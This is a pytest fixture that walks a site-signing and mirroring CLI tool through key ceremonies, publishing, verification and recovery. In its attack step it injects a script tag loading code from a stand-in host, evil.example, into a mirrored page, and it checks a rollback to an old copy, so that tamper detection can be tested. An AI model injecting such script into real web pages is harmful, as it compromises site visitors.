"""One organisation's first days on the command line, walked once per session; the tests look at what was said."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from tests.cli.running import Ran, stillhere

HOLDERS = ("anna", "bo", "chen", "editor", "publisher")
PASSPHRASE = "four words kept together"
MIRROR = '\n[[address]]\nurl = "https://m.example/"\nstate = "mirror"\nsince = 2020\n'


class Walk:
    """Where things lie, and what each step said."""

    def __init__(self, top: Path) -> None:
        self.top, self.site, self.keys = top, top / "site", top / "keys"
        self.passphrase, self.root = top / "passphrase", top / "root.json"
        self.memory, self.back = top / "memory", top / "back"
        self.mirrors = {name: top / f"mirror-{name}" for name in "ab"}
        self.said: dict[str, Ran] = {}

    def run(self, step: str, *words: object) -> Ran:
        self.said[step] = stillhere(*words)
        return self.said[step]

    def key(self, *names: str) -> list[object]:
        keys = [word for name in names for word in ("--key", self.keys / f"{name}.key")]
        return [*keys, "--passphrase-file", self.passphrase]

    def request(self, name: str) -> Path:
        return self.site / ".stillhere" / "requests" / f"{name}.request.json"

    def answer(self, name: str, holder: str) -> Path:
        return self.request(name).with_name(f"{name}.request.{holder}.answer.json")

    def append(self, path: str, text: str) -> None:
        with (self.site / path).open("a", encoding="utf-8") as file:
            file.write(text)


@pytest.fixture(scope="session")
def walk(tmp_path_factory: pytest.TempPathFactory) -> Walk:
    w = Walk(tmp_path_factory.mktemp("walk"))
    w.passphrase.write_text(PASSPHRASE + "\n")
    w.run("new", "new", w.site)
    w.run("check", "check", w.site)
    w.run("build", "build", w.site)
    _ceremony(w)
    _publish(w)
    _new_addresses(w)
    _attack(w)
    return w


def _ceremony(w: Walk) -> None:
    w.run("make before ceremony", "publish", w.site)
    for name in HOLDERS:
        w.run(f"key {name}", "keys", "new", name, "--folder", w.keys, "--passphrase-file", w.passphrase)
    seats = [w.keys / f"{name}.pub" for name in HOLDERS]
    circle = [word for pub in seats[:3] for word in ("--keyholder", pub)] + [
        "--editor",
        seats[3],
        "--publisher",
        seats[4],
    ]
    w.run("ceremony", "keys", "ceremony", w.site, *circle)
    for name in ("anna", "chen"):
        w.run(f"sign {name}", "sign", w.request("ceremony"), *w.key(name), "--yes")
    answers = [w.answer("ceremony", name) for name in ("anna", "chen")]
    w.run("finish too early", "release", "finish", w.site, w.request("ceremony"), answers[0])
    w.run("finish", "release", "finish", w.site, w.request("ceremony"), *answers)


def _publish(w: Walk) -> None:
    w.run("make", "release", "make", w.site, *w.key("editor", "publisher"))
    for name, folder in w.mirrors.items():
        w.append("stillhere.toml", f'\n[[mirror]]\nname = "{name}"\nkind = "folder"\npath = "{folder}"\n')
    w.run("publish", "publish", w.site)
    shutil.copy(w.mirrors["a"] / ".well-known/stillhere/metadata/1.root.json", w.root)
    w.run("verify", "verify", w.mirrors["a"], "--trust", w.root, "--memory", w.memory)
    w.run("verify json", "verify", w.mirrors["a"], w.mirrors["b"], "--trust", w.root, "--json")
    shutil.copytree(w.mirrors["a"], w.top / "old")


def _new_addresses(w: Walk) -> None:
    w.append("registers/addresses.toml", MIRROR)
    w.run("make unsigned", "release", "make", w.site, *w.key("editor", "publisher"))
    w.run("addresses", "release", "addresses", w.site)
    for name in ("bo", "chen"):
        w.run(
            f"sign addresses {name}",
            "sign",
            w.request("addresses-2"),
            *w.key(name),
            "--yes",
            "--site",
            w.site,
            "--json",
        )
    answers = [w.answer("addresses-2", name) for name in ("bo", "chen")]
    w.run(
        "finish addresses too early",
        "release",
        "finish",
        w.site,
        w.request("addresses-2"),
        answers[0],
        *w.key("publisher"),
    )
    answers.append(w.answer("ceremony", "anna"))
    w.run("finish addresses", "release", "finish", w.site, w.request("addresses-2"), *answers, *w.key("publisher"))
    w.run("make 2", "release", "make", w.site, *w.key("publisher", "editor"), "--json")
    w.run("publish 2", "publish", w.site, "--json")
    w.run("heartbeat", "heartbeat", w.site, *w.key("publisher"))
    w.run("publish 3", "publish", w.site, "--mirror", "a")


def _attack(w: Walk) -> None:
    w.run("verify again", "verify", w.mirrors["a"], "--trust", w.root, "--memory", w.memory)
    w.run("verify old", "verify", w.top / "old", "--trust", w.root, "--memory", w.memory)
    page = w.mirrors["b"] / "en/index.html"
    page.write_bytes(page.read_bytes().replace(b"</body>", b"<script src='https://evil.example/x.js'></script></body>"))
    w.run("watch", "watch", "--site", w.site)
    w.run("watch json", "watch", "--site", w.site, "--json")
    w.run("watch web", "watch", "http://127.0.0.1:9/", "--site", w.site, "--seconds", 5)
    w.run("recover", "recover", w.back, w.mirrors["b"], w.top / "old", "--trust", w.root)
    w.run("recover again", "recover", w.back, w.mirrors["b"], "--trust", w.root)
    w.run("recover json", "recover", w.top / "back2", w.mirrors["a"], "--site", w.site, "--json")
